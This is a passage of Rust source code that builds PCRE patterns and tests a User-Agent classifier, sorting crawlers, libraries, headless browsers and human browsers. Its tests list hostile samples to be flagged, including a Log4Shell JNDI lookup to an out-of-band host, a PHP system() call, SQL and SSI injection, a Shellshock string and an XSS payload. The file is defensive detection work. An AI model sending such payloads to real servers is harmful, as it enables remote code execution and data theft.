        format!("{no_engine}[ \\t]*(?:mozilla/[0-9.]+[ +]?\\([^()]*\\)[ +]?)?(?:{})|{no_engine}.*(?<![a-z0-9._-])apt\\-http/", any(&RUNTIMES)),
    ]
}

/// The words of the field, for PCRE, anywhere (device comments included): a
/// quick first look, true wherever the first of [`pcre`] is.
pub fn pcre_words() -> String {
    format!(
        "(?:{})(?![a-z])|(?<![a-z])(?:{})",
        SUFFIX_WORDS.iter().map(|w| pcre_literal(w)).collect::<Vec<_>>().join("|"),
        PREFIX_WORDS.iter().map(|w| pcre_literal(w)).collect::<Vec<_>>().join("|")
    )
}

/// The device markers, as a PCRE alternation.
fn pcre_device() -> String {
    format!("(?:{}|;[ \\t]*wv)", DEVICE.iter().map(|d| pcre_literal(d)).collect::<Vec<_>>().join("|"))
}

/// A comment after "android" (at a token's start, then at most one space or tab), as a lookbehind's alternatives.
const PCRE_AFTER_ANDROID: &str = "^android|[ \\t(;,]android|^android[ \\t]|[ \\t(;,]android[ \\t]";

/// For PCRE, from the start of the User-Agent (anchored) to any place outside
/// the device comments, lazily: a device comment is skipped whole
/// (possessively: never given back to find something in it), any other `(`
/// opens a comment that is read. What follows it is tried at each such place.
///
/// At any place exactly one of the loop's branches can match, and each step
/// is atomic: when what follows fails everywhere, PCRE has no other way
/// through the steps to try. (With two branches for one comment, a device's
/// comment after "android", a string of k such comments that claims nothing
/// gave PCRE 2^k ways to retry: 14 of them, 270 bytes, ran every map on the
/// User-Agent into PCRE's match limit, a quarter of a second each.)
pub fn pcre_outside_devices() -> String {
    let device = pcre_device();
    let skip = format!("\\((?=[^()]*{device})[^()]*+\\)?+|(?<={PCRE_AFTER_ANDROID})\\((?![^()]*{device})[^()]*+\\)?+");
    let open = format!("(?<!{PCRE_AFTER_ANDROID})\\((?![^()]*{device})");
    format!("^(?>{skip}|[^(]|{open})*?")
}

/// For PCRE, after [`pcre_outside_devices`]: optionally, from a device
/// comment's `(` to one of its items that starts with a `Name/` product, the
/// only places in it where a claim may start ([`claim_in_device_comment`]).
pub fn pcre_device_item() -> String {
    let device = pcre_device();
    format!("(?:(?:\\((?=[^()]*{device})|(?<={PCRE_AFTER_ANDROID})\\((?![^()]*{device}))(?:[^;()]*;)*?[ \\t]*(?=[^ \\t;()/]+/))?")
}

/// A literal for PCRE, every byte but a letter or a digit escaped.
fn pcre_escaped(s: &str) -> String {
    s.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_string() } else { format!("\\{c}") }).collect()
}

/// A literal for PCRE: `.` and `-` escaped, a tab as `\t` (the device
/// markers list `cros ` and `cros\t` each, as the Rust rule takes either).
fn pcre_literal(s: &str) -> String {
    s.replace('.', "\\.").replace('-', "\\-").replace('\t', "\\t")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn find_agrees_with_a_comparison_at_every_place() {
        let naive = |hay: &[u8], needle: &[u8]| hay.windows(needle.len()).position(|w| w.eq_ignore_ascii_case(needle));
        for (hay, needle) in [
            ("Linux; Android 13", "android"),
            ("ANDROID", "android"),
            ("andro", "android"),
            ("", "tv"),
            ("xTv", "tv"),
            ("cros x", "cros "),
            ("a", "a"),
            ("ba", "a"),
        ] {
            assert_eq!(find(hay.as_bytes(), needle.as_bytes()), naive(hay.as_bytes(), needle.as_bytes()), "{hay} {needle}");
        }
    }

    #[test]
    fn a_word_set_finds_what_a_comparison_at_every_place_finds() {
        static SET: WordSet = WordSet::new(&["bot", "b", "at ", "(at)", "crawl", "x/"]);
        let words = ["bot", "b", "at ", "(at)", "crawl", "x/"];
        let naive = |hay: &[u8]| (0..hay.len()).find(|p| words.iter().any(|w| starts_ci(&hay[*p..], w.as_bytes())));
        let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
        let alphabet = b"bBoOtTaA (x/)crawlCRAWL\0";
        for _ in 0..20_000 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            let hay: Vec<u8> = (0..(seed % 12) as usize).map(|i| alphabet[(seed >> (5 * i % 60)) as usize % alphabet.len()]).collect();
            assert_eq!(SET.find(&hay, |_, _| true), naive(&hay), "{:?}", String::from_utf8_lossy(&hay));
        }
    }

    #[test]
    fn a_lone_device_is_found_anywhere_in_either_case() {
        let naive = |ua: &[u8]| LONE_DEVICES.iter().any(|d| ua.windows(d.len()).any(|w| w.eq_ignore_ascii_case(d.as_bytes())));
        for ua in ["SmartTV", "IPAD", "tv", "t", "", "Nook 2", "xPoD", "MozacFetch", "Browser 1.0", "wapx", "Wa", "Apple", "appl", "curl", "Tiny Tiny RSS"] {
            assert_eq!(lone_device(ua.as_bytes()), naive(ua.as_bytes()), "{ua}");
        }
        assert!(lone_device(b"My SmartTV") && !lone_device(b"Feedbin feed-id:1"));
    }

    fn name(ua: &str) -> Option<String> {
        bot(ua.as_bytes()).map(|b| b.token.map_or("-".to_string(), |(s, n)| ua[s..s + n].to_string()))
    }

    #[test]
    fn bot_words_contacts_libraries_and_headless_browsers() {
        for (ua, token) in [
            ("Mozilla/5.0 (compatible; Rivetbot/1.0; +https://example.net/bot)", "Rivetbot"),
            ("Clickagy Intelligence Bot v2", "Clickagy"),
            ("Mozilla/5.0 (compatible; ICC-Crawler/3.0)", "ICC-Crawler"),
            ("site-checker/1.0 (+https://example.com)", "site-checker"),
            ("crawling-test/2", "crawling-test"),
            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36", "HeadlessChrome"),
            ("ADmantX Platform Semantic Analyzer - ADmantX Inc. - www.admantx.com - support@admantx.com", "ADmantX"),
            ("Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)", "Ezooms"),
            ("Google-HTTP-Java-Client/1.17.0-rc (gzip)", "Google-HTTP-Java-Client"),
            ("Foo/1.0 (+http://foo.example/info)", "Foo"),
            ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 (+https://example.com/about)", "example.com"),
            ("Mozilla/5.0 (compatible; YandexNewslinks; +http://yandex.com/bots)", "YandexNewslinks"),
            ("TweetedTimes Bot/1.0 (Mozilla/5.0 Compatible, +http://tweetedtimes.com)", "TweetedTimes"),
            ("Mozilla/5.0 (Windows NT 6.1; rv:6.0) Gecko/20110814 Firefox/6.0 Google (+https://developers.google.com/+/web/snippet/)", "developers.google.com"),
            ("CB/Nutch-1.7", "Nutch-1.7"),
            ("your sipder name/Nutch-1.7", "Nutch-1.7"),
            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0 Safari/537.36; +collection@infegy.com", "infegy.com"),
            ("${jndi:ldap://${hostName}.useragent.example.oast.live}", "-"),
            ("Mozilliqa\"<?=print(9347655345-4954366);?>\"", "Mozilliqa\"<?=print"),
            ("{{.custom_user_agent}}", "{{.custom_user_agent}}"),
            ("Hakai/2.0", "Hakai"),
            ("python", "python"),
            ("My User Agent 1.0", "My"),
            ("Chrome", "Chrome"),
            ("Mozilla/5.0", "-"),
            ("Mozilla/5.0 Jorgee", "Jorgee"),
            ("Mozilla/5.0 (compatible)", "-"),
            ("Mozilla/5.0 (compatible; Crusader/1.0)", "Crusader"),
        ] {
            assert_eq!(name(ua).as_deref(), Some(token), "{ua}");
        }
        assert_eq!(bot(b"Clickagy Intelligence Bot v2").unwrap().signal, Signal::Word);
        for (ua, token) in [
            ("Mozilla/5.0 (compatible; RIVETBOT/1.0)", "RIVETBOT"),
            ("SpiderMan/2 (x)", "SpiderMan"),
            ("abot", "abot"),
            ("MegaCRAWLer-X/2.0 (+http://x)", "MegaCRAWLer-X"),
            ("Mozilla/5.0 (compatible; slurp)", "slurp"),
            ("x\u{e9}bot", "x"),
        ] {
            assert_eq!(name(ua).as_deref(), Some(token), "{ua}");
        }
        assert_eq!(name(&format!("{}bot/1", "a".repeat(100))).map(|t| t.len()), Some(MAX_TOKEN), "a name is cut");
        for ua in ["Mozilla/5.0 (Linux; Android 14; BO; bo) Chrome/131 Mobile", "x/1.0 bo", "robotics/1 (Windows) AppleWebKit", "Boto3/1.0 AppleWebKit"] {
            assert_eq!(name(ua), None, "{ua}");
        }
        assert_eq!(bot(b"Google-HTTP-Java-Client/1.17.0-rc (gzip)").unwrap().signal, Signal::Library);
        // named by the runtime's product
        assert_eq!(name("Mozilla/4.0 (Mac OS X 10.9.5) Java/1.8.0_60").as_deref(), Some("Java"));
        assert_eq!(name("Debian APT-HTTP/1.3 (2.6.1)").as_deref(), Some("APT-HTTP"));
        assert_eq!(name("npm/6.14.12 node/v10.24.1 linux x64").as_deref(), Some("npm"));
        // a browser's own client fetches for its user
        assert_eq!(bot(b"MozacFetch/49.0.20200702190156"), None);
        for (ua, signal) in [
            ("${jndi:ldap://x.example/a}", Signal::Injection),
            ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 <?php system('id'); ?>", Signal::Injection),
            ("Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0 Safari/537.36'+(select load_file('x'))+'", Signal::Injection),
            (
                "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0 Safari/537.36 root@x8f6g.burpcollaborator.net",
                Signal::Injection,
            ),
            ("Godzilla/17.0 (Nexus 5X Build/MMB29P) NoWebKit/5.36 (DOM, like Rhino; n7vbji2k.oastify.com) TOR/540.5.3", Signal::Injection),
            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 () { :; }; echo", Signal::Injection),
            ("javascript:/*</script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", Signal::Injection),
            ("&lt;script type=&quot;text/javascript&quot;&gt;", Signal::Injection),
            ("<!DOCTYPE html>", Signal::Injection),
            ("<!--#include virtual=\"/proc/version\"-->", Signal::Injection),
            ("Mozilla/5.0 (compatible; +centuryb.o.t9@gmail.com)", Signal::Contact),
            ("Mozilla/5.0 (Windows NT 6.1; WOW64; rv:26.0) Gecko/20100101 Firefox/26.0 Evidon (lab@evidon.example)", Signal::Mailbox),
            ("Mozilla/5.0 (Windows NT 6.1; rv:40.0; StumbleUpon; noc@stumbleupon.com) Gecko/20100101 Firefox/40.1", Signal::Mailbox),
            ("ExperianCrawlUK (andrew dot swanton at phgroup dot com)", Signal::Mailbox),
            ("KrOWLer/0.1.0, matentzn at cs dot man dot ac dot uk", Signal::Mailbox),
            ("Mozilla/5.0/Firefox/42.0 (contactbigdatafr at gmail.com)", Signal::Mailbox),
            ("Surveyor/2.0 (ops [at] example.org)", Signal::Mailbox),
            ("Surveyor/2.0 (ops(at)example(dot)org)", Signal::Mailbox),
            (
                "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.79 Safari/537.36 (http://www.shrinktheweb.com)",
                Signal::Address,
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) www.HomepageScreenshot.de - Free ScreenShotService/1.0 Safari/537.21",
                Signal::Address,
            ),
            ("Foo/2.0 (see https://foo.example)", Signal::Address),
            ("Mozilla/4.0 (Windows 10 10.0) Java/1.8.0_121", Signal::Runtime),
            ("Mozilla/4.0+(Windows+7+6.1)+Java/1.8.0_45", Signal::Runtime),
            ("Java/1.8.0_151", Signal::Runtime),
            ("python/3.11.9 (macOS-14.6.1-arm64-arm-64bit) AZURECLI/2.63.0 (HOMEBREW)", Signal::Runtime),
            ("npm/6.14.12 node/v10.24.1 linux x64 ci/drone", Signal::Runtime),
            ("Debian APT-HTTP/1.3 (2.6.1)", Signal::Runtime),
            ("urlgrabber/3.10 yum/3.4.3", Signal::Runtime),
            ("Ubuntu APT-HTTP/1.3 Lightning/5.4", Signal::Runtime),
            ("Email%20Extractor/29 CFNetwork/897.15 Darwin/17.5.0 (x86_64)", Signal::Word),
            ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; CHKD 1.2; Akamai_Site_Analyzer)", Signal::Word),
            ("RealPlayer%20Downloader/1750 CFNetwork/760.4.2 Darwin/15.4.0 (x86_64)", Signal::Word),
            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) wkhtmltoimage Safari/534.34", Signal::Headless),
            ("Mozilla/5.0 (X11; BSD Four) AppleWebKit/534.34 (KHTML, like Gecko) webkit2png Safari/534.34", Signal::Headless),
            ("Hakai/2.0", Signal::Shape),
            ("Mozilla/5.0 (compatible; Kaupr/1.0)", Signal::Shape),
        ] {
            assert_eq!(bot(ua.as_bytes()).map(|b| b.signal), Some(signal), "{ua}");
        }
    }

    #[test]
    fn a_script_has_a_scripts_shape() {
        for ua in [
            "Hakai/2.0",
            "Insomania/1.0",
            "Zeus",
            "My User Agent 1.0",
            "CF-UC User Agent v.1d.99613",
            "gbrmss/7.29.0",
            "x/v2.1",
            "Mozilla/4.0",
            "Mozilla/5.0 Jorgee",
            "Mozilla/5.0 (compatible)",
            "Mozilla/5.0 (Compatible; wp2shell-check/1.0)",
        ] {
            assert!(script_shape(ua.as_bytes()), "{ua}");
        }
        for ua in [
            "",
            "iPhone15ProMax",
            "Apple-iPad2C7/1002.329",
            "Karbonn K595 WAP-Browser/1.0.0",
            "iTunes-AppleTV/4.1",
            "bPod",
            "nook browser/1.0",
            "MozacFetch/49.0.20200702190156",
            "Hakai/2.0 ",
            "Hakai/2.0\n",
            "Hakai/beta",
            "Name/1.0 Other/2.0",
            "Mozilla/5.0 (compatible;)",
            "Mozilla/6.0 (compatible; Amiga-AWeb)",
            "Mozilla/5.0 (compatible; IBrowse 3.0; AmigaOS4.0)",
            "Mozilla/3.0 (WorldGate Gazelle 3.5.1 build 11; FreeBSD2.2.8-STABLE)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "Mozilla/5.0 (compatible; Name/1.0) Extra",
        ] {
            assert!(!script_shape(ua.as_bytes()), "{ua}");
        }
    }

    #[test]
    fn device_models_and_browsers_are_people() {
        for ua in [
            "Mozilla/5.0 (Linux; Android 13; CUBOT P60) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 8.0.0; CUBOT_P20) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.110 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 5.1; S550 Pro Build/LMY47D; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/74.0.3729.157 Mobile Safari/537.36 Instagram 94.0.0.22.116 Android (22/5.1; 320dpi; 720x1280; CUBOT; S550 Pro; hct6735_35gu_l1; mt6735; ru_RU; 155374103)",
            "Mozilla/5.0 (Linux; Andr0id 9; ATV R1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/77.0.3865.120 Safari/537.36 OPR/46.0.2207.0 OMI/4.20.5.31.Oak.45 HbbTV/1.5.1 (+DRM;BOTECH;ATV R1;Demo 1.0;Demonstration only;TVs;) FVC/5.0 (BOTECH;TVs;)",
            "Mozilla/5.0 (Linux; Android 12; IDbot553) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0 Mobile Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; checkout-app)",
            // an Android app's own client, a text browser's library, a runtime inside a browser
            "Dalvik/2.1.0 (Linux; U; Android 11; SM-A515F Build/RP1A.200720.012)",
            "Lynx/2.9.0dev.6 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.1.1j-dev",
            "Mozilla/5.0 (Java; Java 1.17;) Chrome/420.69 (KHTML, like Gecko) Electron/0.1.0 Java/1.17",
            "NokiaC3-00/5.0 (07.20) Profile/MIDP-2.1 Configuration/CLDC-1.1 Mozilla/5.0 AppleWebKit/420+ (KHTML, like Gecko) Safari/420+",
            // " at " with no domain after it, a runtime's name inside another word
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Built at home",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36 grpc-java/1.0",
            // a runtime after a program's own product: a person's desktop app
            "JOSM/1.5 (18907 en) Windows 10 64-Bit Java/17.0.9",
            "Mopidy/3.4.1 CPython/3.9.2",
            "JNLP/6.0 javaws/1.6.0 (b04) Java/1.6.0_26",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) JOSM/1.5 Java/17.0.2",
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Trident/4.0; QQDownload 734)",
            "",
        ] {
            assert_eq!(name(ua), None, "{ua}");
        }
    }

    #[test]
    fn every_rule_needs_a_needle() {
        // the prefilter looks for NEEDLES and '@': each rule's words hold one (a
        // script's shape, which needs none, is looked at without them)
        let needle = |w: &str| w.contains('@') || needles().any(|n| w.to_ascii_lowercase().contains(n));
        for w in SUFFIX_WORDS
            .iter()
            .chain(&PREFIX_WORDS)
            .chain(&HEADLESS)
            .chain(&INJECTIONS)
            .chain(&LIBRARY_WORDS)
            .chain(&RUNTIMES)
            .chain(&SPELLED_AT)
            .chain(["http:", "https:", "www."].iter())
        {
            assert!(needle(w), "{w}");
        }
    }
}
